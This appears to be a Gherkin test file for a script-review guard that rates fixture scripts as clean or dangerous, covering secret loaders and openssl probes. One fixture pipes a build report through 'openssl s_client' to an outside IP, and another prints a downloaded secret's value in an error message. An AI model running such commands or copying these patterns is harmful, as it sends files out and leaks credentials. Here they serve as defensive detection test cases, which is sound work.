Feature: Names of secrets and TLS probes fed the script's own words
  A secret loader names the secrets it refuses or loaded (what each is called is no
  secret), and a TLS certificate probe fed a word the script spells (echo QUIT) sends
  nothing of the user's. The values of the secrets shown, and a report read from a file
  streamed to the TLS client, stay flagged.

  Scenario: the name of a downloaded secret shown in a refusal is clean
    Given a project file "load-secrets.ts" containing:
      """
      import { spawnSync } from 'node:child_process';

      const PROTECTED = new Set(['PATH', 'HOME']);
      const res = spawnSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json'], { encoding: 'utf8' });
      const secrets = JSON.parse(res.stdout) as Record<string, string>;
      for (const [name, value] of Object.entries(secrets)) {
        if (PROTECTED.has(name)) {
          console.error(`refusing ${name}: it would override a protected variable`);
          process.exit(2);
        }
      }
      console.log(`loaded ${Object.keys(secrets).join(', ')}`);
      spawnSync('npm', ['run', 'dev'], { stdio: 'inherit', env: { ...process.env, ...secrets } });
      """
    When I run "terraphim-agent guard review-script --json load-secrets.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: the value of a downloaded secret shown in a refusal is dangerous
    Given a project file "load-secrets-shown.ts" containing:
      """
      import { spawnSync } from 'node:child_process';

      const PROTECTED = new Set(['PATH', 'HOME']);
      const res = spawnSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json'], { encoding: 'utf8' });
      const secrets = JSON.parse(res.stdout) as Record<string, string>;
      for (const [name, value] of Object.entries(secrets)) {
        if (PROTECTED.has(name)) {
          console.error(`refusing ${name}=${value}: it would override a protected variable`);
          process.exit(2);
        }
      }
      spawnSync('npm', ['run', 'dev'], { stdio: 'inherit', env: { ...process.env, ...secrets } });
      """
    When I run "terraphim-agent guard review-script --json load-secrets-shown.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a certificate probe fed QUIT is clean
    Given a project file "cert-quit.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      host="${1:-api.example.com}"
      end=$(echo QUIT | openssl s_client -connect "$host:443" -servername "$host" 2>/dev/null | openssl x509 -noout -enddate)
      echo "$host $end"
      """
    When I run "terraphim-agent guard review-script --json cert-quit.sh"
    Then the JSON field "verdict" is "clean"

  Scenario: a report read from a file streamed to openssl s_client is the file sent away
    Given a project file "cert-report.sh" containing:
      """
      #!/usr/bin/env bash
      set -euo pipefail
      cat build/scan-report.json | openssl s_client -quiet -connect 203.0.113.9:6514 2>/dev/null
      """
    When I run "terraphim-agent guard review-script --json cert-report.sh"
    Then the JSON field "verdict" is "dangerous"
